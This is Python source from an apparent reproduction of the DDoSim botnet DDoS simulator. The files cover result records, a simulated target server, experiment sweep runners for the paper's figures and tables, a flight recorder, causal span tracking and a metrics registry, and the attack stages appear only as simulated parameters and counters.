    received_packets: int = 0
    queue_drops: int = 0
    delivery_ratio: float = 0.0


@dataclass
class ChurnSummary:
    mode: str = "none"
    departures: int = 0
    rejoins: int = 0
    online_at_end: int = 0


@dataclass
class RunResult:
    """Everything one DDoSim run produced."""

    n_devs: int
    seed: int
    churn_mode: str
    attack_duration: float
    recruitment: RecruitmentStats
    attack: AttackStatsSummary
    churn: ChurnSummary
    resources: ResourceReport
    #: per-second received-rate series over the attack window (kbps)
    rate_series_kbps: List[float] = field(default_factory=list)
    events_executed: int = 0
    sim_end_time: float = 0.0

    def row(self) -> Dict[str, object]:
        """A flat record for table printing / CSV-ish dumps."""
        return {
            "n_devs": self.n_devs,
            "churn": self.churn_mode,
            "attack_duration_s": self.attack_duration,
            "infection_rate": round(self.recruitment.infection_rate, 4),
            "bots": self.recruitment.bots_recruited,
            "avg_received_kbps": round(self.attack.avg_received_kbps, 1),
            "offered_kbps": round(self.attack.offered_kbps, 1),
            "delivery_ratio": round(self.attack.delivery_ratio, 4),
            "pre_attack_mem_gb": round(self.resources.pre_attack_mem_gb, 2),
            "attack_mem_gb": round(self.resources.attack_mem_gb, 2),
            "attack_time": self.resources.attack_time_mmss(),
        }


def format_table(rows: List[Dict[str, object]], columns: Optional[List[str]] = None) -> str:
    """Monospace-align a list of row dicts (benchmark output helper)."""
    if not rows:
        return "(no rows)"
    if columns is None:
        columns = list(rows[0].keys())
    widths = {
        column: max(len(str(column)), *(len(str(row.get(column, ""))) for row in rows))
        for column in columns
    }
    header = "  ".join(str(column).ljust(widths[column]) for column in columns)
    separator = "  ".join("-" * widths[column] for column in columns)
    lines = [header, separator]
    for row in rows:
        lines.append(
            "  ".join(str(row.get(column, "")).ljust(widths[column]) for column in columns)
        )
    return "\n".join(lines)
