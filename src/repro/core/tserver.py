"""The TServer component (paper §II-C / §III-C).

"We use an NS-3 node to represent TServer, where we implement a
customized sink application capable of receiving data transmitted from
any source within the simulated network" — exactly what
:class:`repro.netsim.sink.PacketSink` does; this wrapper adds the access
link (whose finite downlink rate is the DDoS bottleneck) and a
:class:`repro.netsim.tracing.FlowMonitor` for per-flow analysis.
"""

from __future__ import annotations

from repro.core.config import SimulationConfig
from repro.netsim.node import Node
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet
from repro.netsim.tracing import FlowMonitor


class TServerComponent:
    """The target server: node + promiscuous sink + flow stats."""

    def __init__(self, config: SimulationConfig, sim, star: StarInternet):
        self.config = config
        self.node = Node(sim, "tserver")
        self.link = star.attach_host(
            self.node,
            config.tserver_rate_bps,
            config.tserver_link_delay,
            queue_packets=config.queue_packets,
        )
        self.address = self.link.ipv6
        self.sink = PacketSink(self.node)
        self.flow_monitor = FlowMonitor(self.node)

    def start(self) -> None:
        self.sink.start()

    @property
    def downlink_queue_drops(self) -> int:
        """Packets the bottleneck (router->TServer) queue shed."""
        return self.link.router_device.queue.dropped
