"""Sweep runners that regenerate every table and figure in the paper.

Each function runs the corresponding experiment grid and returns row
dicts ready for :func:`repro.core.results.format_table`; the benchmark
harness under ``benchmarks/`` is a thin wrapper around these.

Grids default to the paper's parameters.  Because the paper's own runs
took minutes per point on real hardware, each runner accepts a reduced
grid for quick passes; ``REPRO_FULL=1`` in the environment switches the
benchmarks to the full published grids.

Grid points are independent (each builds its own simulator from its own
seed), so every sweep accepts ``jobs=N`` to spread points across worker
processes via :mod:`repro.parallel` — same rows, sooner.  ``jobs=1``
(the default) is the exact serial path.

Every sweep also accepts ``cache=`` (a :class:`repro.cache.RunCache`):
finished points are committed to the cache as they complete and served
from it on the next invocation, so rerunning a sweep costs only its
changed (or interrupted, not-yet-committed) points.  ``cache=None`` (the
default) always simulates.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Dict, List, Optional, Sequence

from repro.cache import CachedRun
from repro.core.config import CHURN_DYNAMIC, CHURN_NONE, CHURN_STATIC, SimulationConfig
from repro.core.framework import DDoSim
from repro.core.results import RunResult
from repro.parallel import QuarantinedPoint, run_cached

#: the paper's grids
FIGURE2_DEVS_FULL = (10, 30, 50, 70, 90, 110, 130, 150)
FIGURE2_CHURN = (CHURN_NONE, CHURN_STATIC, CHURN_DYNAMIC)
FIGURE3_DURATIONS = (150.0, 200.0, 300.0)
FIGURE3_DEVS_FULL = (50, 100, 150, 200)
TABLE1_DEVS = (20, 40, 70, 100, 130)
FIGURE4_DEVS_FULL = tuple(range(1, 20))

#: reduced grids for quick benchmark passes
FIGURE2_DEVS_QUICK = (10, 50, 100, 150)
FIGURE3_DEVS_QUICK = (50, 100)
FIGURE4_DEVS_QUICK = (1, 4, 7, 10, 13, 16, 19)


def run_single(config: SimulationConfig) -> RunResult:
    """Run one configuration to completion."""
    return DDoSim(config).run()


def _run_point(config: SimulationConfig) -> CachedRun:
    """The standard sweep point (module-level so it pickles): one DDoSim
    run plus its metric snapshot, in cache-storable form."""
    ddosim = DDoSim(config)
    result = ddosim.run()
    return CachedRun(results=[result], metrics=ddosim.obs.metrics.snapshot())


def _completed(points, runs):
    """Pair grid points with their runs, skipping quarantined slots —
    a degraded sweep still yields rows for every completed point (the
    quarantine itself is reported by :func:`repro.parallel.run_cached`
    and in the sweep telemetry summary)."""
    return [
        (point, run)
        for point, run in zip(points, runs)
        if not isinstance(run, QuarantinedPoint)
    ]


# ----------------------------------------------------------------------
# Figure 2: received rate vs number of Devs at three churn levels
# ----------------------------------------------------------------------
def run_figure2(
    devs_grid: Sequence[int] = FIGURE2_DEVS_QUICK,
    churn_modes: Sequence[str] = FIGURE2_CHURN,
    seed: int = 1,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    """100-second attacks across a Devs x churn grid."""
    points = [
        (churn, n_devs) for churn in churn_modes for n_devs in devs_grid
    ]
    configs = [
        _derive(base_config, n_devs=n_devs, churn=churn, seed=seed)
        for churn, n_devs in points
    ]
    runs = run_cached(_run_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "churn": churn,
            "n_devs": n_devs,
            "avg_received_kbps": round(run.result.attack.avg_received_kbps, 1),
            "offered_kbps": round(run.result.attack.offered_kbps, 1),
            "bots_at_attack": run.result.attack.bots_commanded,
            "delivery_ratio": round(run.result.attack.delivery_ratio, 3),
        }
        for (churn, n_devs), run in _completed(points, runs)
    ]


# ----------------------------------------------------------------------
# Figure 3: received rate vs attack duration for several fleet sizes
# ----------------------------------------------------------------------
def run_figure3(
    devs_grid: Sequence[int] = FIGURE3_DEVS_QUICK,
    durations: Sequence[float] = FIGURE3_DURATIONS,
    seed: int = 1,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    points = [
        (n_devs, duration) for n_devs in devs_grid for duration in durations
    ]
    configs = [
        _derive(
            base_config,
            n_devs=n_devs,
            attack_duration=duration,
            seed=seed,
            sim_duration=max(600.0, duration + 120.0),
        )
        for n_devs, duration in points
    ]
    runs = run_cached(_run_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "n_devs": n_devs,
            "attack_duration_s": duration,
            "avg_received_kbps": round(run.result.attack.avg_received_kbps, 1),
            "received_mbit_total": round(
                run.result.attack.received_bytes * 8 / 1e6, 1
            ),
        }
        for (n_devs, duration), run in _completed(points, runs)
    ]


# ----------------------------------------------------------------------
# Table I: host resources consumed per run
# ----------------------------------------------------------------------
def run_table1(
    devs_grid: Sequence[int] = TABLE1_DEVS,
    seed: int = 1,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    configs = [
        _derive(base_config, n_devs=n_devs, seed=seed) for n_devs in devs_grid
    ]
    runs = run_cached(_run_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "n_devs": n_devs,
            "pre_attack_mem_gb": round(run.result.resources.pre_attack_mem_gb, 2),
            "attack_mem_gb": round(run.result.resources.attack_mem_gb, 2),
            "attack_time": run.result.resources.attack_time_mmss(),
        }
        for n_devs, run in _completed(devs_grid, runs)
    ]


# ----------------------------------------------------------------------
# Figure 4: real-hardware model vs DDoSim
# ----------------------------------------------------------------------
def _figure4_point(config: SimulationConfig) -> CachedRun:
    """One Figure 4 grid point: the DDoSim run plus its hardware twin
    (module-level so it pickles for parallel sweeps)."""
    from repro.hardware.testbed import HardwareTestbed

    ddosim = DDoSim(config)
    ddosim_result = ddosim.run()
    hardware_result = HardwareTestbed(config).run()
    return CachedRun(
        results=[ddosim_result, hardware_result],
        metrics=ddosim.obs.metrics.snapshot(),
    )


def run_figure4(
    devs_grid: Sequence[int] = FIGURE4_DEVS_QUICK,
    seed: int = 1,
    attack_duration: float = 60.0,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    configs = [
        _derive(
            base_config,
            n_devs=n_devs,
            seed=seed,
            attack_duration=attack_duration,
            sim_duration=attack_duration + 150.0,
        )
        for n_devs in devs_grid
    ]
    runs = run_cached(_figure4_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    rows: List[Dict[str, object]] = []
    for n_devs, run in _completed(devs_grid, runs):
        ddosim_result, hardware_result = run.results
        sim_kbps = ddosim_result.attack.avg_received_kbps
        hw_kbps = hardware_result.attack.avg_received_kbps
        divergence = abs(sim_kbps - hw_kbps) / hw_kbps if hw_kbps else 0.0
        rows.append(
            {
                "n_devs": n_devs,
                "hardware_kbps": round(hw_kbps, 1),
                "ddosim_kbps": round(sim_kbps, 1),
                "relative_divergence": round(divergence, 3),
            }
        )
    return rows


# ----------------------------------------------------------------------
# Fault sweep: attack magnitude vs fault intensity (repro.faults)
# ----------------------------------------------------------------------
FAULT_INTENSITY_GRID = (0.0, 0.25, 0.5, 0.75, 1.0)


def _fault_sweep_point(config: SimulationConfig) -> CachedRun:
    """One fault-sweep grid point (module-level so it pickles): the run
    plus the injector's own counters."""
    ddosim = DDoSim(config)
    result = ddosim.run()
    injector = ddosim.fault_injector
    injected = injector.injected if injector is not None else 0
    reconnects = int(ddosim.sim.obs.metrics.value("bots_reconnects_total"))
    return CachedRun(
        results=[result],
        metrics=ddosim.obs.metrics.snapshot(),
        extra={"faults_injected": injected, "bot_reconnects": reconnects},
    )


def run_fault_sweep(
    plan,
    intensity_grid: Sequence[float] = FAULT_INTENSITY_GRID,
    n_devs: int = 20,
    seed: int = 1,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    """Sweep one :class:`repro.faults.FaultPlan` across intensities.

    The fault-layer analogue of :func:`run_figure2`'s churn axis: every
    point runs the same scenario with the plan's per-target arming
    probabilities scaled by ``intensity`` (0.0 arms nothing — the
    graceful-degradation baseline).  A plan holding a single ``churn``
    fault reproduces the paper's churn curves as the special case.
    """
    configs = [
        _derive(
            base_config, n_devs=n_devs, seed=seed, faults=plan.scaled(intensity)
        )
        for intensity in intensity_grid
    ]
    runs = run_cached(_fault_sweep_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "intensity": intensity,
            "n_devs": n_devs,
            "faults_injected": run.extra["faults_injected"],
            "bots_at_attack": run.result.attack.bots_commanded,
            "avg_received_kbps": round(run.result.attack.avg_received_kbps, 1),
            "delivery_ratio": round(run.result.attack.delivery_ratio, 3),
            "bot_reconnects": run.extra["bot_reconnects"],
        }
        for intensity, run in _completed(intensity_grid, runs)
    ]


# ----------------------------------------------------------------------
# R1/R2: recruitment-only sweep over CVEs and protection profiles
# ----------------------------------------------------------------------
def run_recruitment(
    n_devs: int = 16,
    seed: int = 1,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    """Infection rate per (binary, protection profile) — the R2 answer."""
    points = [
        (binary_mix, profile)
        for binary_mix in ("connman", "dnsmasq")
        for profile in ((), ("wx",), ("aslr",), ("wx", "aslr"))
    ]
    configs = [
        _derive(
            base_config,
            n_devs=n_devs,
            seed=seed,
            binary_mix=binary_mix,
            protection_profiles=(profile,),
            attack_duration=10.0,
            sim_duration=180.0,
        )
        for binary_mix, profile in points
    ]
    runs = run_cached(_run_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "binary": binary_mix,
            "protections": "+".join(profile) or "none",
            "devs": n_devs,
            "recruited": run.result.recruitment.bots_recruited,
            "infection_rate": round(run.result.recruitment.infection_rate, 3),
            "leaks": run.result.recruitment.leaks_harvested,
        }
        for (binary_mix, profile), run in _completed(points, runs)
    ]


# ----------------------------------------------------------------------
# Baseline: memory-error recruitment vs the default-credential vector
# ----------------------------------------------------------------------
def _vector_comparison_point(config: SimulationConfig) -> CachedRun:
    ddosim = DDoSim(config)
    result = ddosim.run()
    return CachedRun(
        results=[result],
        metrics=ddosim.obs.metrics.snapshot(),
        extra={"weak_credential_devs": ddosim.devs.weak_credential_count()},
    )


def run_vector_comparison(
    n_devs: int = 20,
    seed: int = 1,
    weak_credential_fraction: float = 0.6,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    """Same fleet, three recruitment vectors (the paper's R1 contrast:
    memory-error exploits vs the classic Mirai credential dictionary)."""
    vectors = ("credentials", "memory_error", "both")
    configs = [
        _derive(
            base_config,
            n_devs=n_devs,
            seed=seed,
            recruitment_vector=vector,
            weak_credential_fraction=weak_credential_fraction,
            attack_duration=30.0,
            sim_duration=300.0,
        )
        for vector in vectors
    ]
    runs = run_cached(_vector_comparison_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "vector": vector,
            "devs": n_devs,
            "weak_credential_devs": run.extra["weak_credential_devs"],
            "recruited": run.result.recruitment.bots_recruited,
            "infection_rate": round(run.result.recruitment.infection_rate, 3),
            "avg_received_kbps": round(run.result.attack.avg_received_kbps, 1),
        }
        for vector, run in _completed(vectors, runs)
    ]


# ----------------------------------------------------------------------
# Emulation-mode comparison: containers (the paper's choice) vs
# Firmadyne/QEMU full-firmware emulation (§III-B's alternative)
# ----------------------------------------------------------------------
def _emulation_comparison_point(config: SimulationConfig) -> CachedRun:
    ddosim = DDoSim(config)
    result = ddosim.run()
    return CachedRun(
        results=[result],
        metrics=ddosim.obs.metrics.snapshot(),
        extra={"fleet_memory_bytes": ddosim.runtime.total_memory_bytes()},
    )


def run_emulation_comparison(
    n_devs: int = 15,
    seed: int = 1,
    base_config: Optional[SimulationConfig] = None,
    jobs: int = 1,
    cache=None,
    telemetry=None,
    supervision=None,
) -> List[Dict[str, object]]:
    """Same experiment under both Dev emulation modes.

    Quantifies the paper's scalability rationale: full-system emulation
    "requires significant processing powers, which limits DDoSim's
    scalability" — while recruitment outcomes are identical because only
    the network-facing program's vulnerability matters.
    """
    modes = ("container", "firmware")
    configs = [
        _derive(
            base_config,
            n_devs=n_devs,
            seed=seed,
            dev_emulation=mode,
            attack_duration=30.0,
            sim_duration=300.0,
        )
        for mode in modes
    ]
    runs = run_cached(_emulation_comparison_point, configs, jobs=jobs, cache=cache,
                      telemetry=telemetry, supervision=supervision)
    return [
        {
            "emulation": mode,
            "devs": n_devs,
            "infection_rate": round(run.result.recruitment.infection_rate, 3),
            "first_bot_s": round(run.result.recruitment.first_bot_time or 0.0, 1),
            "fleet_memory_mb": round(run.extra["fleet_memory_bytes"] / 1e6, 1),
            "avg_received_kbps": round(run.result.attack.avg_received_kbps, 1),
        }
        for mode, run in _completed(modes, runs)
    ]


def _derive(base: Optional[SimulationConfig], **overrides) -> SimulationConfig:
    if base is None:
        return SimulationConfig(**overrides)
    return replace(base, **overrides)
