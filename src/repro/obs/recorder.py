"""Always-on flight recorder: a bounded ring of recent notes + metric
deltas, force-dumped when something dies.

The trace observatory (:meth:`Observatory.full`) is opt-in because it
is expensive; the flight recorder is the opposite trade — cheap enough
to leave on in *every* run (the default :class:`Observatory` carries
one), so a post-mortem never starts from a blank trace.  It keeps:

* a fixed-capacity ring of **notes** — low-rate landmark records only
  (container lifecycle, fault injections, ended spans), never per-packet
  events, so cost is bounded by construction;
* on each **dump** a snapshot of the metrics registry *delta* since the
  previous dump, so a crash dump says what changed, not just what is.

Dumps fire on the failure paths that would otherwise eat the evidence:
fault injection (:mod:`repro.faults`), an exception escaping the
simulator run loop, and sweep-worker death
(:class:`repro.parallel.SweepTelemetry`).  ``dump()`` never raises —
it is called from ``except`` blocks that must re-raise the original
error, not a recorder bug.
"""

from __future__ import annotations

from collections import deque
from typing import List, Optional

#: default ring capacity — enough to hold the run-up to a failure
#: (container churn + recent spans) at a few hundred bytes per note
DEFAULT_CAPACITY = 256


class FlightRecorder:
    """Bounded ring of recent notes, snapshotted on demand."""

    enabled = True

    def __init__(self, capacity: int = DEFAULT_CAPACITY):
        if capacity <= 0:
            raise ValueError("flight recorder capacity must be positive")
        self.capacity = capacity
        self._ring: deque = deque(maxlen=capacity)
        self.noted = 0
        #: optional MetricsRegistry; when set, dumps carry metric deltas
        self.metrics = None
        self._last_snapshot: Optional[dict] = None
        self.dumps: List[dict] = []

    def note(self, kind: str, t: float, /, **fields) -> None:
        """Record one landmark into the ring (evicting the oldest).

        ``kind``/``t`` are positional-only and always win over same-named
        fields — a caller's field name can never crash or corrupt a note
        (this runs inside daemon generators where an exception kills the
        process).
        """
        self.noted += 1
        record = dict(fields)
        record["kind"] = kind
        record["t"] = t
        self._ring.append(record)

    def recent(self) -> List[dict]:
        return list(self._ring)

    def dump(self, reason: str, t: float, /, **fields) -> Optional[dict]:
        """Snapshot the ring + metric delta; never raises."""
        try:
            record = dict(fields)
            record.update(
                reason=reason,
                t=t,
                noted=self.noted,
                evicted=max(0, self.noted - len(self._ring)),
                notes=list(self._ring),
            )
            if self.metrics is not None:
                snapshot = self.metrics.snapshot()
                if self._last_snapshot is not None:
                    record["metrics_delta"] = type(self.metrics).delta(
                        self._last_snapshot, snapshot
                    )
                else:
                    record["metrics_delta"] = snapshot
                self._last_snapshot = snapshot
            self.dumps.append(record)
            return record
        except Exception:  # pragma: no cover - defensive: dump on a dying run
            return None

    def format_dump(self, record: dict) -> str:
        """One dump as a readable post-mortem block."""
        lines = [
            f"=== flight recorder dump: {record['reason']} at t={record['t']:.3f} ===",
            f"notes: {len(record['notes'])} retained, {record['evicted']} evicted",
        ]
        for note in record["notes"][-20:]:
            extras = " ".join(
                f"{key}={value}" for key, value in note.items()
                if key not in ("kind", "t")
            )
            lines.append(f"  [{note['t']:10.3f}] {note['kind']} {extras}".rstrip())
        delta = record.get("metrics_delta")
        if delta:
            moved = {
                name: values for name, values in delta.get("counters", {}).items()
                if any(values.values())
            }
            if moved:
                lines.append("counters moved since last dump:")
                for name in sorted(moved):
                    for labels, value in sorted(moved[name].items()):
                        label_text = f"{{{labels}}}" if labels else ""
                        lines.append(f"  {name}{label_text} +{value:g}")
        return "\n".join(lines)


class NullRecorder:
    """Disabled recorder (the bare-simulator / NullObservatory case)."""

    enabled = False
    capacity = 0
    noted = 0
    metrics = None
    dumps: List[dict] = []

    def note(self, kind, t, /, **fields) -> None:
        pass

    def recent(self) -> List[dict]:
        return []

    def dump(self, reason, t, /, **fields):
        return None

    def format_dump(self, record) -> str:
        return ""


NULL_RECORDER = NullRecorder()
