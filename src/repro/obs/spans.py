"""Causal span tracking: the recruitment-and-attack tree of one run.

The flat event tracer answers *what* happened; spans answer *why*.
Every stage of the attack lifecycle — scanner probe, exploit attempt,
victim-side hijack outcome, loader infection, C&C recruit, attack
order, flood train, queue drop, sink delivery — opens (or extends) a
span, and parent/child links chain them into the causal tree: which
probe leaked the pointer that built the exploit that recruited the bot
whose flood train caused which queue drops and which sink bytes.

**Span IDs are deterministic.**  An ID is a short BLAKE2s digest of
``{parent_or_root}/{kind}/{entity}#{per-scope index}``, where the root
namespace derives from the run seed (:meth:`SpanTracker.reseed`) and
the index is a per-(scope, kind, entity) counter.  No wall clock, no
process RNG — the same (config, seed) produces byte-identical span
trees run-to-run and across ``--jobs``, so ``repro verify-determinism``
holds with spans enabled and :func:`canonical_spans_run` can assert it.

**Cross-layer linking** uses a key registry instead of threading span
objects through every call signature: the attacker binds
``("exploit", victim)`` when the payload leaves, the victim's hijack
report looks the key up to parent its outcome span, a successful hijack
binds ``("recruit", victim)`` for the C&C's recruit span, and so on
down to the flood train.  The registry is in-process state of one
simulation, so lookups are as deterministic as the events that bind.

When spans are off (the default), every call site pays one attribute
check against :data:`NULL_SPANS` — same null-object contract as the
tracer.
"""

from __future__ import annotations

import hashlib
import json
from typing import Dict, List, Optional, Tuple

#: digest size of a span ID (hex length = 2x); 8 bytes keeps IDs short
#: in exports while making collisions vanishingly unlikely per run
_ID_DIGEST_SIZE = 8


def _span_id(material: str) -> str:
    return hashlib.blake2s(material.encode(), digest_size=_ID_DIGEST_SIZE).hexdigest()


class Span:
    """One node of the causal tree.

    ``t_end`` is ``None`` while open; packet accounting
    (``packets_dropped`` / ``packets_delivered`` / ``bytes_delivered``)
    is filled in by queues and sinks attributing stamped packets back
    to their originating span.
    """

    __slots__ = (
        "span_id", "parent_id", "kind", "entity", "t_start", "t_end",
        "status", "fields", "packets_dropped", "packets_delivered",
        "bytes_delivered",
    )

    def __init__(self, span_id: str, parent_id: Optional[str], kind: str,
                 entity: str, t_start: float, fields: dict):
        self.span_id = span_id
        self.parent_id = parent_id
        self.kind = kind
        self.entity = entity
        self.t_start = t_start
        self.t_end: Optional[float] = None
        self.status = "open"
        self.fields = fields
        self.packets_dropped = 0
        self.packets_delivered = 0
        self.bytes_delivered = 0

    @property
    def duration(self) -> float:
        if self.t_end is None:
            return 0.0
        return self.t_end - self.t_start

    def to_dict(self) -> dict:
        out = {
            "span": self.span_id,
            "parent": self.parent_id,
            "kind": self.kind,
            "entity": self.entity,
            "t_start": self.t_start,
            "t_end": self.t_end,
            "status": self.status,
        }
        if self.packets_dropped:
            out["packets_dropped"] = self.packets_dropped
        if self.packets_delivered:
            out["packets_delivered"] = self.packets_delivered
            out["bytes_delivered"] = self.bytes_delivered
        out.update(self.fields)
        return out

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return (f"<Span {self.kind}:{self.entity} id={self.span_id} "
                f"t={self.t_start:.3f} status={self.status}>")


class SpanTracker:
    """Collects :class:`Span` records and their parent/child links."""

    enabled = True

    def __init__(self, seed: int = 0, max_spans: int = 1_000_000):
        if max_spans <= 0:
            raise ValueError("span capacity must be positive")
        self.max_spans = max_spans
        #: optional FlightRecorder; ended spans are noted into its ring
        self.recorder = None
        self.reseed(seed)

    def reseed(self, seed) -> None:
        """Re-derive the root ID namespace from ``seed`` and reset.

        Called by the framework once per run so span IDs are a pure
        function of (seed, causal position) — never of wall clock or
        tracker reuse history.
        """
        self._root = _span_id(f"run/{seed}")
        self._spans: List[Span] = []
        self._by_id: Dict[str, Span] = {}
        self._child_counts: Dict[Tuple[str, str, str], int] = {}
        self._keys: Dict[tuple, Span] = {}
        self.truncated = 0

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    def start(self, kind: str, t: float, entity: str = "",
              parent=None, **fields) -> Span:
        """Open a span; ``parent`` is a :class:`Span`, an ID, or None."""
        parent_id = parent.span_id if isinstance(parent, Span) else parent
        scope = parent_id if parent_id is not None else self._root
        counter_key = (scope, kind, entity)
        index = self._child_counts.get(counter_key, 0)
        self._child_counts[counter_key] = index + 1
        span = Span(
            _span_id(f"{scope}/{kind}/{entity}#{index}"),
            parent_id, kind, entity, t, fields,
        )
        if len(self._spans) >= self.max_spans:
            # Over capacity: the span object still works for the caller
            # but is not retained (accounting against it is a no-op).
            self.truncated += 1
            return span
        self._spans.append(span)
        self._by_id[span.span_id] = span
        return span

    def end(self, span: Optional[Span], t: float, status: str = "ok",
            **fields) -> None:
        if span is None:
            return
        span.t_end = t
        span.status = status
        if fields:
            span.fields.update(fields)
        recorder = self.recorder
        if recorder is not None and recorder.enabled:
            recorder.note("span", t, span=span.kind, id=span.span_id,
                          entity=span.entity, status=status)

    def annotate(self, span: Optional[Span], **fields) -> None:
        if span is not None:
            span.fields.update(fields)

    # ------------------------------------------------------------------
    # Cross-layer linking
    # ------------------------------------------------------------------
    def bind(self, key, span: Optional[Span]) -> None:
        """Publish ``span`` under a tuple key for a later layer to find."""
        if span is not None:
            self._keys[tuple(key)] = span

    def lookup(self, key) -> Optional[Span]:
        return self._keys.get(tuple(key))

    def get(self, span_id: str) -> Optional[Span]:
        return self._by_id.get(span_id)

    # ------------------------------------------------------------------
    # Packet accounting (queues / sinks attribute stamped packets)
    # ------------------------------------------------------------------
    def drop(self, span_id: str, count: int = 1) -> None:
        span = self._by_id.get(span_id)
        if span is not None:
            span.packets_dropped += count

    def deliver(self, span_id: str, count: int = 1, nbytes: int = 0) -> None:
        span = self._by_id.get(span_id)
        if span is not None:
            span.packets_delivered += count
            span.bytes_delivered += nbytes

    # ------------------------------------------------------------------
    # Reads / export
    # ------------------------------------------------------------------
    def spans(self) -> List[Span]:
        return list(self._spans)

    def __len__(self) -> int:
        return len(self._spans)

    def kinds(self) -> Dict[str, int]:
        counts: Dict[str, int] = {}
        for span in self._spans:
            counts[span.kind] = counts.get(span.kind, 0) + 1
        return counts

    def to_dicts(self) -> List[dict]:
        ordered = sorted(self._spans, key=lambda s: (s.t_start, s.span_id))
        return [span.to_dict() for span in ordered]

    def to_jsonl(self) -> str:
        lines = [json.dumps(record, sort_keys=True, default=str)
                 for record in self.to_dicts()]
        return "\n".join(lines) + ("\n" if lines else "")

    def tree(self) -> List[dict]:
        """The causal forest: every root span with children nested under
        ``"children"``, deterministically ordered by (t_start, id)."""
        nodes = {span.span_id: dict(span.to_dict(), children=[])
                 for span in self._spans}
        roots: List[dict] = []
        for span in sorted(self._spans, key=lambda s: (s.t_start, s.span_id)):
            node = nodes[span.span_id]
            parent = nodes.get(span.parent_id) if span.parent_id else None
            if parent is not None:
                parent["children"].append(node)
            else:
                roots.append(node)
        return roots

    def canonical_json(self) -> str:
        """The whole tree as one canonical JSON string — two
        byte-identical runs produce byte-identical output, which is the
        form the determinism tests compare."""
        return json.dumps(self.tree(), sort_keys=True, default=str)


class NullSpans:
    """Disabled tracker: ``enabled`` is False, every method a no-op."""

    enabled = False
    recorder = None
    truncated = 0

    def reseed(self, seed) -> None:
        pass

    def start(self, kind, t, entity="", parent=None, **fields):
        return None

    def end(self, span, t, status="ok", **fields) -> None:
        pass

    def annotate(self, span, **fields) -> None:
        pass

    def bind(self, key, span) -> None:
        pass

    def lookup(self, key):
        return None

    def get(self, span_id):
        return None

    def drop(self, span_id, count=1) -> None:
        pass

    def deliver(self, span_id, count=1, nbytes=0) -> None:
        pass

    def spans(self) -> List[Span]:
        return []

    def __len__(self) -> int:
        return 0

    def kinds(self) -> Dict[str, int]:
        return {}

    def to_dicts(self) -> List[dict]:
        return []

    def to_jsonl(self) -> str:
        return ""

    def tree(self) -> List[dict]:
        return []

    def canonical_json(self) -> str:
        return "[]"


NULL_SPANS = NullSpans()


def canonical_spans_run(config) -> str:
    """Run ``config`` fully instrumented and return the canonical span
    tree (module-level so it pickles into :func:`repro.parallel.run_map`
    workers — the jobs-parity leg of the span determinism test)."""
    from repro.core.framework import DDoSim
    from repro.obs.observatory import Observatory

    ddosim = DDoSim(config, observatory=Observatory.full())
    ddosim.run()
    return ddosim.obs.spans.canonical_json()
