"""The metrics registry: counters, gauges, histograms, labeled families.

Prometheus-shaped but in-process and virtual-time friendly: components
grab their instruments once (``registry.counter("queue_drops_total")``)
and bump them on the hot path; exporters snapshot the whole registry to
dict/JSON/CSV at any point of a run.  A *delta* between two snapshots
gives per-window rates, which :mod:`repro.core.telemetry` uses for its
sampled series.

Instrumented code must stay near-zero-cost when nobody is measuring:
:data:`NULL_REGISTRY` hands out a shared :class:`NullInstrument` whose
mutators are no-op method calls, so modules can bind instruments
unconditionally and never branch on "is observability on?".
"""

from __future__ import annotations

import bisect
import json
from typing import Callable, Dict, Iterable, Optional, Tuple

#: default histogram buckets (seconds-ish scale: covers sub-ms callback
#: wall times through multi-second transfer durations)
DEFAULT_BUCKETS = (
    0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025,
    0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)

LabelValues = Tuple[str, ...]


def _label_key(label_names: Tuple[str, ...], values: LabelValues) -> str:
    """Canonical string key for one labeled child ("" when unlabeled)."""
    if not label_names:
        return ""
    return ",".join(f"{n}={v}" for n, v in zip(label_names, values))


class Counter:
    """Monotonically increasing count.  ``inc`` is the only mutator."""

    __slots__ = ("name", "label_key", "value")

    def __init__(self, name: str, label_key: str = ""):
        self.name = name
        self.label_key = label_key
        self.value = 0.0

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount


class Gauge:
    """A value that can go up and down — or be computed on demand.

    Callback gauges (``fn=...``) cost nothing until read: the framework
    registers e.g. ``bots_connected`` against ``CncServer.bot_count`` and
    the value is pulled only at sampling/export time.
    """

    __slots__ = ("name", "label_key", "_value", "fn")

    def __init__(self, name: str, label_key: str = "",
                 fn: Optional[Callable[[], float]] = None):
        self.name = name
        self.label_key = label_key
        self._value = 0.0
        self.fn = fn

    def set(self, value: float) -> None:
        self.fn = None
        self._value = value

    def inc(self, amount: float = 1.0) -> None:
        self.fn = None
        self._value += amount

    def dec(self, amount: float = 1.0) -> None:
